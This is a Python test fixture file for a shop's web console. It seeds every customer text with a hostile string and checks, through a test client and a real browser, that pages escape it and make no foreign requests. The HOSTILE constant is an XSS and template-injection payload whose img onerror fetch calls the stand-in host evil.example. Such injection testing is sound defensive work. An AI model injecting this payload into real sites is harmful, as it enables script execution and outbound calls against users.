"""A console over a small shop, asked by a client of tests and by a real browser."""

from __future__ import annotations

import asyncio
import html
import json
import re
import shutil
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from argon2 import PasswordHasher
from starlette.testclient import TestClient

from regulars import Shop
from regulars.console import Beside, Console
from regulars.console.people import Person
from regulars.console.roles import ROLES
from regulars.console.security import FIELD
from regulars.console.sessions import COOKIE
from regulars.serve import app
from regulars.serve.server import listening

PASSWORD = "tea for two at five"  # noqa: S105
HOSTILE = """<img src=x onerror="fetch('https://evil.example')"><script>alert(1)</script>'"{{7*7}}"""
"""What stands in every text of the shop."""


def email_of(role: str) -> str:
    return f"{role}@shop.example"


class Browser:
    """A client that keeps its cookie, and takes the token of a form from the page where it stands."""

    def __init__(self, api: Beside) -> None:
        self.client = TestClient(api, base_url="https://shop.example", follow_redirects=False)
        self._tokens: dict[str | None, str] = {}

    def get(self, path: str, **about: Any) -> Any:
        return self.client.get(f"/console{path}", **about)

    def token(self, path: str | None = None) -> str:
        """Of the form on a page; by default of any, for it holds as long as the session does."""
        session = self.client.cookies.get(COOKIE)
        if path is None and session in self._tokens:
            return self._tokens[session]
        found = re.search(rf'name="{FIELD}" value="([^"]+)"', self.get(path or "/styleguide").text)
        assert found is not None
        self._tokens[session] = html.unescape(found[1])
        return self._tokens[session]

    def post(self, path: str, form: dict[str, str] | None = None, page: str | None = None, **about: Any) -> Any:
        return self.client.post(f"/console{path}", data={FIELD: self.token(page), **(form or {})}, **about)

    def sign_in(self, role: str, password: str = PASSWORD) -> Any:
        return self.post("/sign-in", {"email": email_of(role), "password": password}, page="/sign-in")


@pytest.fixture(scope="module")
def hostile_shop(tmp_path_factory: pytest.TempPathFactory, record: Any) -> Shop:
    """Two customers, whose every text is hostile."""
    shop = Shop.create(tmp_path_factory.mktemp("hostile") / "shop")
    events: list[dict[str, Any]] = []
    for day in range(1, 9):
        for customer in ("ada", HOSTILE):
            line = {
                "customer_id": customer, "product_id": HOSTILE, "title": HOSTILE, "category": HOSTILE, "brand": HOSTILE,
                "time": f"2024-05-0{day}T10:00:00Z", "channel": HOSTILE, "text": HOSTILE, "query": HOSTILE,
            }  # fmt: skip
            events += [
                {**line, "type": "product_viewed"},
                {
                    **line,
                    "type": "order_completed",
                    "order_id": f"{customer[:4]}-{day}",
                    "quantity": 1,
                    "unit_price": 4.5,
                },
            ]
    record(shop, *events)
    traits = {"name": HOSTILE, "email": "eve@shop.example", "city": HOSTILE}
    call = {
        "type": "identify", "userId": HOSTILE, "messageId": "m1", "traits": traits, "timestamp": "2024-05-01T09:00:00Z"
    }  # fmt: skip
    path = shop.folder.parent / "calls.jsonl"
    path.write_text(json.dumps(call) + "\n")
    shop.import_(path, strict=True)
    return shop


@pytest.fixture(scope="module")
def api(hostile_shop: Shop, intents: Path) -> Beside:
    """The application, as `regulars console` serves it; its inbox stays shut. It knows what the starter set teaches."""
    shutil.copytree(intents, hostile_shop.folder / "cache" / "intents")
    return Beside(app(hostile_shop, hostile_shop.config.serve), Shop.open(hostile_shop.folder))


@pytest.fixture(scope="module")
def console(api: Beside) -> Console:
    """With the list of customers made, and a person of every role."""
    found = api.console
    found.kept.patience = 60
    found.index.make(found.shop, lambda done, total: None)
    # A password is hashed by what its hash says: of these people all is as quick as it can be.
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr("regulars.console.people._hasher", PasswordHasher(time_cost=1, memory_cost=8, parallelism=1))
        for role in ROLES:
            token = found.people.invite(role, by="tests")
            found.people.join(token, email_of(role), role, PASSWORD, "en")
    return found


@pytest.fixture(scope="module")
def people(console: Console) -> dict[str, Person]:
    """{role: who has it}."""
    return {person.role: person for person in console.people.all()}


@pytest.fixture(scope="module")
def browser_of(api: Beside, console: Console) -> Callable[[str | None], Browser]:
    """browser_of(role): a client that is signed in; None for one that is not."""
    made: dict[str | None, Browser] = {}

    def find(role: str | None) -> Browser:
        if role not in made:
            made[role] = Browser(api)
            if role is not None:
                assert made[role].sign_in(role).status_code == 303
        return made[role]

    return find


@pytest.fixture
def new_browser(api: Beside, console: Console) -> Browser:
    """A client that nobody has signed in with."""
    return Browser(api)


@pytest.fixture(scope="module")
def served(api: Beside, console: Console) -> Iterator[str]:
    """The address of the console, served by Granian on this machine."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = int(probe.getsockname()[1])
    server = listening(api, "127.0.0.1", port)
    loops: list[asyncio.AbstractEventLoop] = []

    async def run() -> None:
        loops.append(asyncio.get_running_loop())
        await server.serve()

    thread = threading.Thread(target=lambda: asyncio.run(run()))
    thread.start()
    for _ in range(500):
        with socket.socket() as probe:
            if probe.connect_ex(("127.0.0.1", port)) == 0:
                break
        thread.join(0.02)
    yield f"http://127.0.0.1:{port}"
    loops[0].call_soon_threadsafe(server.stop)
    thread.join(60)


WHOLE = """() => !document.getElementById("main")
    || !document.querySelector(".loading:not(.sample, [data-hx-trigger=revealed]), .htmx-request")
    && [...document.querySelectorAll(".chart-place")].every(place => place.querySelector("canvas, svg"))"""
"""A part that is opened alone has no scripts: there is nothing to wait for."""
PATIENCE_MS = 120_000
"""Tests run beside each other, and a busy machine is no fault of a page."""
ASKED_MS = 20
FOREIGN = "img[src=x], script:not([src])"
"""What `HOSTILE` would be if it were trusted."""


class Watched:
    """A page of the browser, and what it did that no page of ours may do."""

    def __init__(self, page: Any, base: str) -> None:
        self.page, self.base = page, base
        self.faults: list[str] = []
        page.on("dialog", lambda dialog: (self.faults.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.on("request", self._asked)
        page.on("pageerror", lambda error: self.faults.append(f"error: {error}"))
        page.on("console", lambda said: self.faults.append(f"said: {said.text}") if said.type == "error" else None)

    def _asked(self, request: Any) -> None:
        if not request.url.startswith((self.base, "data:", "blob:")):
            self.faults.append(f"foreign: {request.url}")

    def go(self, path: str) -> None:
        """Open a page, and wait until its parts are there and its charts are drawn."""
        self.page.goto(f"{self.base}/console{path}")
        self.until(WHOLE)
        if self.page.locator(FOREIGN).count():
            self.faults.append(f"a text became an element: {path}")

    def until(self, said: str, arg: object = None, patience_ms: float = PATIENCE_MS) -> None:
        """Wait until a function of JavaScript says yes; asked from here, for pages do not let texts become code."""
        for _ in range(int(patience_ms / ASKED_MS)):
            if self.page.evaluate(said, arg):
                return
            self.page.wait_for_timeout(ASKED_MS)
        raise TimeoutError(said)

    def sign_in(self, role: str) -> None:
        self.go("/sign-in")
        self.page.fill("input[name=email]", email_of(role))
        self.page.fill("input[name=password]", PASSWORD)
        self.page.click("form button.primary")
        self.page.wait_for_selector(".bar-person")


@pytest.fixture(scope="module")
def page_of(engine: Any, served: str) -> Iterator[Callable[[str], Watched]]:
    """page_of(role): a browser's page of its own, signed in as that role."""
    contexts = []

    def made(role: str) -> Watched:
        contexts.append(engine.new_context())
        contexts[-1].set_default_timeout(PATIENCE_MS)
        watched = Watched(contexts[-1].new_page(), served)
        watched.sign_in(role)
        return watched

    yield made
    for context in contexts:
        context.close()


@pytest.fixture(scope="module")
def page(page_of: Callable[[str], Watched]) -> Watched:
    """A browser's page, signed in as administrator."""
    return page_of("admin")


@pytest.fixture(scope="session")
def hostile() -> str:
    """What stands in every text of the shop."""
    return HOSTILE
